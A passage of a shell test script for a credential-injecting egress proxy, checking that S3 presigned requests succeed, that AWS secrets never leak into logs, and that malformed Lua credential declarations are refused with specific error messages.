assert len(rs) == 2 and all(r["verdict"] == "ok" and r["auth"]["scheme"] == "presigned" and r["auth"]["key_id"] == sys.argv[2] for r in rs), rs' \
	"$T/s3.log" "$STS_AKID" "$n2"
check "no AWS secret in the proxy's log or audit" bash -c "! grep -qF -e '$S3SECRET' -e '$STS_SECRET' -e '$STS_TOKEN' '$T/proxy.log' '$T/audit.jsonl' '$T/stderr'"

# ---- 6. declarations: a bad one stops the load with a reason ----
bad_decl() {	# bad_decl NAME LUA-ENTRY EXPECTED
	printf 'return { name = "bad", credentials = { %s } }\n' "$2" >"$T/bad.lua"
	px_yaml "$T/bad.lua" | sed "s/^listen: .*/listen: 127.0.0.1:$(free_port)/; s|socket: .*|socket: $T/bad.sock|" >"$T/bad.yaml"
	if "$BIN/egress-proxy/egress-proxy" -n -f "$T/bad.yaml" >"$T/bad.out" 2>&1; then
		fail "declaration refused: $1" "the config was taken"
	elif grep -qF -- "$3" "$T/bad.out"; then
		ok "declaration refused: $1"
	else
		fail "declaration refused: $1" "$(tail -n 3 "$T/bad.out")"
	fi
}
bad_decl "no hosts" '{ name = "x", form = "bearer", secret = "env:HOME" }' "hosts is a list"
bad_decl "an unknown form" '{ name = "x", form = "cookie", secret = "env:HOME", hosts = { "a.test" } }' "form is bearer"
bad_decl "a header form without field" '{ name = "x", form = "header", secret = "env:HOME", hosts = { "a.test" } }' "needs field"
bad_decl "a header form on Host" '{ name = "x", form = "header", field = "Host", secret = "env:HOME", hosts = { "a.test" } }' "the proxy's own"
bad_decl "a secret variable not set" '{ name = "x", form = "bearer", secret = "env:R30_NOT_SET", hosts = { "a.test" } }' "env:R30_NOT_SET: the variable is not set"
bad_decl "a missing secret file" "{ name = \"x\", form = \"bearer\", secret = \"file:$T/none\", hosts = { \"a.test\" } }" "No such file"
bad_decl "a name declared twice" '{ name = "x", form = "bearer", secret = "env:HOME", hosts = { "a.test" } }, { name = "x", form = "bearer", secret = "env:HOME", hosts = { "b.test" } }' "declared twice"
bad_decl "a bad name" '{ name = "X Y", form = "bearer", secret = "env:HOME", hosts = { "a.test" } }' "lower-case"
bad_decl "a host with a slash" '{ name = "x", form = "bearer", secret = "env:HOME", hosts = { "a.test/p" } }' "not a host name"
bad_decl "an env entry that is not a variable name" '{ name = "x", form = "bearer", secret = "env:HOME", hosts = { "a.test" }, env = { "A-B" } }' "env[1] is not a variable name"
bad_decl "sigv4 without key_id" '{ name = "x", form = "sigv4", secret = "env:HOME", hosts = { "s3.test" } }' "needs key_id"
bad_decl "sigv4 with a malformed key id" '{ name = "x", form = "sigv4", key_id = "env:HOME", secret = "env:HOME", hosts = { "s3.test" } }' "an access key id is 16-128"
bad_decl "a session token on a form other than sigv4" "{ name = \"x\", form = \"bearer\", token = \"file:$T/sts.token\", secret = \"env:HOME\", hosts = { \"s3.test\" } }" "is for form sigv4"
printf 'not a token!\n' >"$T/bad.token"
bad_decl "a session token with bytes no token has" "{ name = \"x\", form = \"sigv4\", key_id = \"file:$T/sts.akid\", token = \"file:$T/bad.token\", secret = \"env:HOME\", hosts = { \"s3.test\" } }" "an AWS session token is"
bad_decl "NAME=session_token without a token" "{ name = \"x\", form = \"sigv4\", key_id = \"file:$T/sts.akid\", secret = \"env:HOME\", hosts = { \"s3.test\" }, env = { \"AWS_SESSION_TOKEN=session_token\" } }" "is not a variable name"
bad_decl "key_id= in env of a non-sigv4 credential" '{ name = "x", form = "bearer", secret = "env:HOME", hosts = { "a.test" }, env = { "K=key_id" } }' "env[1] is not a variable name"
check "the proxy still runs" kill -0 "$PX_PID"

